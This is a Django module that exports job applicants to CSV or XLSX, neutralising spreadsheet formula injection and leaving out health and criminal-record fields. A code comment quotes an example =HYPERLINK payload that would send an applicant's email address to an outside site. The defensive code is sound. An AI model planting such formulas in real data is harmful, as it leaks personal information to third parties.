"""CSV/XLSX exports of a job's applicants (reads)."""

import csv
import io
import itertools

from django.http import HttpResponse
from django.utils import timezone
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from .. import labels
from ..rules import sensitive_reads
from ..selectors import job_requirements

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# A cell starting with one of these is read as a formula by Excel, WPS and LibreOffice (OWASP, "CSV
# Injection"): an applicant named =HYPERLINK("http://…/?x="&B2,"点击") would be a link that sends the
# e-mail address next to it to that site. Such text is prefixed with ' and so shown as typed, never evaluated.
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell_text(value):
    """The value as an export writes it: text that a spreadsheet would evaluate is neutralised, and control
    characters XML cannot hold are dropped (one applicant named "a\x01b" made the whole XLSX export fail);
    numbers, dates and None are left as they are (a score stays a number)."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    return "'" + value if value.startswith(_FORMULA_START) else value


def _xlsx_cell(sheet, value):
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(sheet, value=value)
    # openpyxl itself makes a formula of text starting with = and an error cell of "#N/A": text stays text
    cell.data_type = "s"
    return cell


def _sensitive(condition: dict) -> bool:
    return bool({"health", "criminal_record"} & sensitive_reads(condition))


def job_rows(*, job, applications) -> tuple[list[str], list[list]]:
    """One row per application; requirements that read health or criminal records are left out."""
    requirements, _revisions = job_requirements(job=job)
    columns = [(r.checklist, r.code, r.title) for r in requirements if not _sensitive(r.condition)]
    header = [
        _("姓名"), _("邮箱"), _("手机"), _("阶段"), _("得分"), _("最高可能得分"), _("建议"),
        _("硬性条件不满足"), _("未知项数"), _("来源"), _("投递时间"),
        *[f"{title} ({checklist}/{code})" for checklist, code, title in columns],
    ]  # fmt: skip
    rows = []
    for a in applications.iterator(chunk_size=2000):  # applicant and evaluation joined by the selector
        evaluation = getattr(a, "evaluation", None)
        statuses = {(r["checklist"], r["code"]): r["status"] for r in evaluation.results} if evaluation else {}
        rows.append([
            a.applicant.name, a.applicant.email, a.applicant.phone, a.get_stage_display(),
            float(evaluation.score) if evaluation else None,
            float(evaluation.max_possible) if evaluation else None,
            evaluation.get_recommendation_display() if evaluation else "",
            (_("是") if evaluation.knockout_failed else _("否")) if evaluation else "",
            evaluation.unknown_count if evaluation else None,
            a.get_source_display(), timezone.localtime(a.submitted_at).strftime("%Y-%m-%d %H:%M"),
            *[labels.label(labels.STATUSES, statuses.get((c, k), "")) for c, k, _t in columns],
        ])  # fmt: skip
    return header, rows


def response(header: list[str], rows: list[list], *, fmt: str, filename: str) -> HttpResponse:
    """The export file; every cell goes through cell_text, whatever the format."""
    cells = ([cell_text(v) for v in row] for row in itertools.chain([header], rows))
    if fmt == "csv":
        buf = io.StringIO()
        buf.write("\ufeff")  # Excel reads UTF-8 Chinese correctly only with the BOM
        writer = csv.writer(buf)
        writer.writerows(cells)  # csv writes None as an empty field
        resp = HttpResponse(buf.getvalue(), content_type="text/csv; charset=utf-8")
    else:
        book = Workbook(write_only=True)
        sheet = book.create_sheet(_("申请人"))
        for row in cells:
            sheet.append([_xlsx_cell(sheet, v) for v in row])
        out = io.BytesIO()
        book.save(out)
        resp = HttpResponse(out.getvalue(), content_type=XLSX)
    resp.headers["Content-Disposition"] = f'attachment; filename="{filename}.{fmt}"'
    resp.headers["Cache-Control"] = "private, no-store"
    return resp
